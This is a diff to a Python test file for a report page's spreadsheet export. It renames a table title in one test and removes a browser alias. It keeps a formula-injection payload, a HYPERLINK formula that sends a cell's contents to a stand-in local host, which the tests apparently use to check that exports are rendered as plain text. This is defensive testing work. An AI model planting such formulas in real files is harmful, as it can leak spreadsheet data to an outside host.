@@ -17,7 +17,6 @@ from tests.report import test_page_in_browser as in_browser
 from tests.report.conftest import ATTACK
 
 FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")'
-browser = in_browser.browser
 
 
 @pytest.fixture(scope="module")
@@ -76,7 +75,7 @@ def test_what_a_spreadsheet_would_run_is_text(visit: Any) -> None:
 
 def test_numbers_are_raw_and_sessions_are_dates(visit: Any) -> None:
     """55.2 % on the page is 0.5524 in the file, a dash is nothing, and the rows come in the order shown."""
-    _, _, rows = save(visit, "The model against its baselines", by_keyboard=True)
+    _, _, rows = save(visit, "Every measure of the model and its baselines", by_keyboard=True)
     accuracy = rows[0].index("Accuracy")
     assert [row[accuracy] for row in rows[1:]] == ["0.5524", "0.5102", "0.483", "0.5398"]
     assert rows[2][rows[0].index("AUC")] == ""
